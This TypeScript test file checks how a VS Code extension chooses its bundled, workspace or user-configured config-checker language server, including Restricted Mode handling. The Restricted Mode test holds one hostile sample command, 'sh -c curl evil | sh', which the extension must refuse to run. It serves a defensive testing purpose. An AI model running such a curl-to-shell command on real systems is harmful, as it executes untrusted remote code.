// The VS Code extension's choice of checker (editors/vscode/server.js), given what the editor
// hands it: the setting, the workspace folders, an environment and a file reader. Nothing on PATH
// is ever the answer: the extension host's PATH is the login shell's, where a checker installed
// from an interactive shell is not (`spawn component-config-check ENOENT`).

import { createRequire } from 'node:module';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';

interface Server {
  source: 'setting' | 'workspace' | 'bundled';
  path: string;
  command: string;
  args: string[];
  options: { env: Record<string, string | undefined>; shell: boolean };
}
interface Inputs {
  configured: unknown;
  folders: readonly string[];
  extensionPath: string;
  execPath: string;
  env: Record<string, string | undefined>;
  platform: string;
  readFile: (file: string) => string | undefined;
  trusted: boolean;
}
const extension = createRequire(import.meta.url)('../../editors/vscode/server.js') as {
  resolveServer: (inputs: Inputs) => Server | { error: string };
  describeServer: (server: Server, version: string | undefined, trusted: boolean) => string;
};

const EXTENSION = '/home/u/.vscode/extensions/component-config.component-config-check-1.0.0';
const ELECTRON = '/usr/share/code/code';
const BUNDLED = join(EXTENSION, 'server', 'index.js');

function inputs(files: Record<string, string>, more: Partial<Inputs> = {}): Inputs {
  return {
    configured: [],
    folders: ['/work/repo'],
    extensionPath: EXTENSION,
    execPath: ELECTRON,
    // A PATH that has a checker: it must not be taken.
    env: { PATH: '/home/u/.npm-global/bin:/usr/bin', HOME: '/home/u' },
    platform: 'linux',
    readFile: (file) => files[file],
    trusted: true,
    ...more,
  };
}

const bundle = { [BUNDLED]: '// start.js' };

describe('the VS Code extension starts', () => {
  it('the checker bundled with it when neither the setting nor the workspace names one, on its own node', () => {
    const server = extension.resolveServer(inputs(bundle, { env: {} }));
    expect(server).toEqual({
      source: 'bundled',
      path: BUNDLED,
      command: ELECTRON,
      args: [BUNDLED, '--lsp'],
      options: { env: { ELECTRON_RUN_AS_NODE: '1' }, shell: false },
    });
  });

  it('the bundled checker, not one on PATH', () => {
    const server = extension.resolveServer(
      inputs({ ...bundle, [join('/home/u/.npm-global/bin', 'component-config-check')]: '#!/usr/bin/env node' }),
    );
    expect(server).toMatchObject({ source: 'bundled', command: ELECTRON });
    expect((server as Server).options.env).toMatchObject({
      PATH: '/home/u/.npm-global/bin:/usr/bin',
      ELECTRON_RUN_AS_NODE: '1',
    });
  });

  it("the workspace's own install, by its package's bin, on the extension host's node (no node on PATH needed)", () => {
    const pkg = join('/work/b', 'node_modules', 'component-config-check');
    const script = join(pkg, 'dist', 'cli', 'index.js');
    const server = extension.resolveServer(
      inputs(
        {
          ...bundle,
          [join(pkg, 'package.json')]: JSON.stringify({ bin: { 'component-config-check': 'dist/cli/index.js' } }),
          [script]: '// start.js',
        },
        { folders: ['/work/a', '/work/b'] },
      ),
    );
    expect(server).toMatchObject({
      source: 'workspace',
      path: script,
      command: ELECTRON,
      args: [script, '--lsp'],
    });
  });

  it('the bundled checker when the workspace has the package without its script, or an unreadable package.json', () => {
    const manifest = join('/work/repo', 'node_modules', 'component-config-check', 'package.json');
    const broken = { ...bundle, [manifest]: '{"bin": "dist/cli/index.js"' };
    expect(extension.resolveServer(inputs(broken))).toMatchObject({ source: 'bundled' });
    const noScript = { ...bundle, [manifest]: '{"bin": "dist/cli/index.js"}' };
    // The same package with its script is taken: the two above fail for the reason named.
    const whole = { ...noScript, [join(manifest, '..', 'dist', 'cli', 'index.js')]: '// start.js' };
    expect(extension.resolveServer(inputs(whole))).toMatchObject({ source: 'workspace' });
    expect(extension.resolveServer(inputs(noScript))).toMatchObject({ source: 'bundled' });
  });

  it('the setting, when set, with --lsp added (through a shell on Windows, for npm .cmd shims)', () => {
    const configured = ['node', '/src/component-config-action/dist/cli/index.js'];
    expect(extension.resolveServer(inputs(bundle, { configured }))).toMatchObject({
      source: 'setting',
      path: 'node',
      command: 'node',
      args: ['/src/component-config-action/dist/cli/index.js', '--lsp'],
      options: { shell: false },
    });
    expect(extension.resolveServer(inputs(bundle, { configured: ['ccc.cmd'], platform: 'win32' }))).toMatchObject({
      options: { shell: true },
    });
  });

  it("its own checker in Restricted Mode, not the workspace's nor the setting's (code the workspace brings)", () => {
    const pkg = join('/work/repo', 'node_modules', 'component-config-check');
    const files = {
      ...bundle,
      [join(pkg, 'package.json')]: JSON.stringify({ bin: 'dist/cli/index.js' }),
      [join(pkg, 'dist', 'cli', 'index.js')]: '// start.js',
    };
    expect(extension.resolveServer(inputs(files))).toMatchObject({ source: 'workspace' });
    expect(extension.resolveServer(inputs(files, { trusted: false }))).toMatchObject({
      source: 'bundled',
      path: BUNDLED,
    });
    expect(
      extension.resolveServer(inputs(files, { trusted: false, configured: ['sh', '-c', 'curl evil | sh'] })),
    ).toMatchObject({ source: 'bundled', command: ELECTRON });
    const server = extension.resolveServer(inputs(files, { trusted: false })) as Server;
    expect(extension.describeServer(server, '1.0.0', false)).toBe(
      `component-config-check 1.0.0: ${BUNDLED} (bundled with the extension; Restricted Mode: the workspace's own checker and the setting are not used)`,
    );
  });

  it('nothing, with one line saying why and what to do, when the package lacks its bundled checker', () => {
    expect(extension.resolveServer(inputs({}))).toEqual({
      error: `the bundled checker ${BUNDLED} is missing (a package built without \`npm run package\`); set componentConfigCheck.command, or install component-config-check in the workspace`,
    });
  });

  it('and says in the output channel which checker runs, from where, and its version', () => {
    const server = extension.resolveServer(inputs(bundle)) as Server;
    expect(extension.describeServer(server, '1.0.0', true)).toBe(
      `component-config-check 1.0.0: ${BUNDLED} (bundled with the extension)`,
    );
  });
});
